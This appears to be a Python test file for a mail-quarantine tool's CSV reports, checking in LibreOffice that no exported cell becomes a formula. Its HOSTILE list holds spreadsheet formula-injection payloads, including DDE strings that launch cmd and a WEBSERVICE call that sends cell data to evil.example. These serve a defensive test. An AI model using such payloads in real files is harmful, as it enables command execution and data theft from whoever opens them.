"""The CSV in a spreadsheet (LibreOffice): every cell comes back, and none is a formula."""

import base64
import csv
import functools
import io
import pathlib
import sys
import tempfile
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "support"))
import quarantine_case  # noqa: E402
import runner  # noqa: E402
import spreadsheet  # noqa: E402
from quarantine_case import INCOMING, NOW, OLDER, OUTGOING  # noqa: E402

BOM = b"\xef\xbb\xbf"

PERIOD = [f"--timezone={quarantine_case.ZONE}", f"--since={OLDER}", "--until=2026-02-12",
          "-i", "-o"]

# What spammers may write where a spreadsheet computes.
HOSTILE = [
    "=1+1", "=cmd|'/c calc'!A1", "=2+5+cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/","x")',
    '=WEBSERVICE("http://evil.example/"&A1)', "=SUM(1;2)", '=DDE("cmd";"/c calc";"x")', "==1", "=",
    "+1", "+1+cmd|'/c calc'!A1", "-1", "-2+3", "@SUM(1)", "@", "+", "-", "--1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", "'=1+1", '"=1+1"', '",=1+1,"', "{=1+1}", "=A1\x00",
]

# What a spreadsheet takes for something else than text, and then shows in another way.
AMBIGUOUS = ["007", "1.50", "1,50", "1e5", "1E5", "1.5e-3", "0x10", "2026-02-11", "11.02.2026", "1/2",
             "1 1/2", "12:30", "12:30:15", "12:30 PM", "5 pm", "TRUE", "false", "12 %", "12%", "$5",
             "5 €", "(5)", "1,000", "1.000,5", "1 000", "00491234", "00491234567890123456789",
             "4915112345678901234567", "123456789012", "jan1", "SEPT2", "1-Mar", "15 March 2024",
             "March 15, 2024", "2024-03-15T12:30:00", "3/15/2024", "1-2", ".5", "5.", "١٢٣", "１２",
             "Infinity", "#N/A", "'007", "'1E5", "10017", "12345678901", "192.0.2.1"]

# What may be written as the result of a formula: what cannot compute anything.
WRITTEN = set(AMBIGUOUS)

# Columns that hold no text of a message.
NUMBERS = {"#", "UID", "Count", "Percent", "Recipients", "Source IPs", "Subjects",
           "Top PHP script percent", "Top source IP percent", "Sample UID", "Login IPs", "Callers", "Spam Count",
           "Invalid Sender Count", "Date", "First seen", "Last seen"}

# Texts that a wrong character set would change.
FOREIGN = ["Zoë", "Привет", "請立即付款", "עברית", "e\u0301", "👩‍👩‍👧", "½ €", "ｆｕｌｌ", "ß"]


def table(data):
    """CSV as lists of cells; a mark (BOM) in front does not count."""
    return list(csv.reader(io.StringIO(data.removeprefix(BOM).decode(), newline=""), strict=True))


def words(text):
    return b"=?UTF-8?B?" + base64.b64encode(text.encode()) + b"?="


def message(number, text):
    """A message with a text in all places that end up in a grouped report."""
    return b"\n".join([
        b"From: " + words(text) + b" <h%d@sender.example>" % number,
        b"To: victim@example.net",
        b"Subject: " + words(text),
        b"X-AuthUser: " + text.replace("\n", " ").replace("\r", " ").encode(),
        b"X-PHP-Script: " + text.replace("\n", " ").replace("\r", " ").encode(),
        b"", b""])


# Options of each report, which goes to standard output; and of what each is written in.
REPORTS = {
    "messages": ["--csv=-", "--columns=all"],
    "default-columns": ["--csv=-"],
    "groups": ["--csv=-", "--group-by=From,Subject"],
    "identities": ["--csv=-", "--group-by=Identity"],
    "identity-report": ["--identity-report=-"],
}
PLAIN, MARKED, RAW = "", "--csv-bom", "--raw-csv"


@unittest.skipUnless(spreadsheet.find_soffice(),
                     "soffice is missing (Debian package libreoffice-calc)")
class Opened(quarantine_case.QuarantineTest):
    """All reports are opened together, since each start of LibreOffice takes seconds."""

    MINIMUM = len(HOSTILE)  # rows

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.soffice = cls.enterClassContext(spreadsheet.Soffice())
        cls.folder = pathlib.Path(cls.enterClassContext(
            tempfile.TemporaryDirectory(prefix="qr-reports-")))
        cls.reports = {}    # {(name, form): the path of a file with it}

    @classmethod
    def fill(cls, quarantine):
        quarantine_case.load_samples(quarantine)
        for number, text in enumerate(HOSTILE + AMBIGUOUS + FOREIGN):
            quarantine.deliver((OUTGOING, INCOMING)[number % 2], message(number, text), NOW)

    def saved(self, name, form):
        """The path of a file with this report."""
        if (name, form) not in self.reports:
            data = self.quiet_report(*PERIOD, *REPORTS[name], *filter(None, [form])).stdout
            rows = table(data)
            self.assertGreater(len(rows), self.MINIMUM, "too few to be of interest")
            self.assertEqual({len(row) for row in rows}, {len(rows[0])})
            path = self.folder / (name + form + ".csv")
            path.write_bytes(data)
            self.reports[name, form] = path
        return self.reports[name, form]

    def opened(self, convert, *forms):
        """[(name of the file, rows of the report, what a spreadsheet made of it)]"""
        paths = [self.saved(name, form) for name in REPORTS for form in forms]
        return [(path.name, table(path.read_bytes()), theirs)
                for path, theirs in zip(paths, convert(paths), strict=True)]

    def assert_cells(self, ours, theirs):
        self.assertEqual(len(ours), len(theirs), "rows")
        for number, (our, their) in enumerate(zip(ours, theirs)):
            for title, one, other in zip(ours[0], our, their, strict=True):
                self.assertEqual(one, other, f"row {number}, {title}")

    def test_comes_back_unchanged(self):
        for name, ours, copy in self.opened(self.soffice.as_text, PLAIN, MARKED, RAW):
            with self.subTest(report=name):
                self.assert_cells(ours, table(copy))

    def test_bom(self):
        for name in REPORTS:
            with self.subTest(report=name):
                plain = self.saved(name, PLAIN).read_bytes()
                self.assertFalse(plain.startswith(BOM))
                # The programs that read the filter's own report know no mark.
                mark = b"" if name == "identity-report" else BOM
                self.assertEqual(self.saved(name, MARKED).read_bytes(), mark + plain)

    def test_no_formula(self):
        """As a user opens it: our numbers become numbers, every other cell is the text we wrote."""
        for special in (False, True):
            convert = functools.partial(self.soffice.as_opened, special_numbers=special)
            for name, ours, opened in self.opened(convert, PLAIN, MARKED):
                with self.subTest(report=name, special_numbers=special):
                    self.assert_only_text_and_numbers(ours, opened)

    def assert_only_text_and_numbers(self, ours, opened):
        self.assertEqual(len(ours), len(opened), "rows")
        kinds = set()
        for number, (our, their) in enumerate(zip(ours, opened)):
            their = their + [None] * (len(our) - len(their))  # the empty ones at the end
            for title, text, cell in zip(ours[0], our, their, strict=True):
                where = f"row {number}, {title}: {text!r} -> {cell}"
                if cell is None or cell.kind is None:
                    self.assertEqual(text, "", where)
                    continue
                kinds.add(cell.kind)
                if text.startswith('="'):
                    # A formula of ours: its result is the text, as it is.
                    text = text[2:-1]
                    self.assertIn(text, WRITTEN, where)
                    self.assertEqual((cell.kind, cell.text, cell.formula),
                                     ("string", text, f'of:="{text}"'), where)
                    continue
                self.assertIsNone(cell.formula, where)
                if cell.kind == "string" or title not in NUMBERS:
                    self.assertEqual(cell.text, text, where)
                if title in ("#", "UID", "Count", "Sample UID", "Login IPs", "Callers", "Login IPs", "Callers", "Spam Count"):
                    self.assertEqual((cell.kind, cell.value), ("float", text) if number else
                                     ("string", None), where)
        self.assertIn("string", kinds)
        self.assertIn("float", kinds)

    def test_raw_has_formulas(self):
        """Without the guard the same cells are formulas or other texts: the test above can fail."""
        for name, ours, opened in self.opened(self.soffice.as_opened, RAW):
            with self.subTest(report=name):
                self.assert_formulas(ours, opened)

    def assert_formulas(self, ours, opened):
        cells = [(text, cell) for our, their in zip(ours, opened, strict=True)
                 for text, cell in zip(our, their)]
        computed = {text for text, cell in cells if cell.formula is not None}
        for text in ("=1+1", "=cmd|'/c calc'!A1", "=SUM(1;2)"):
            self.assertTrue(any(one.startswith(text) for one in computed), f"{text}: {computed}")
        self.assertEqual({text[0] for text in computed}, {"="})
        self.assertLessEqual({"007", "1E5", "00491234"},
                             {text for text, cell in cells if cell.text != text})


if __name__ == "__main__":
    runner.main()
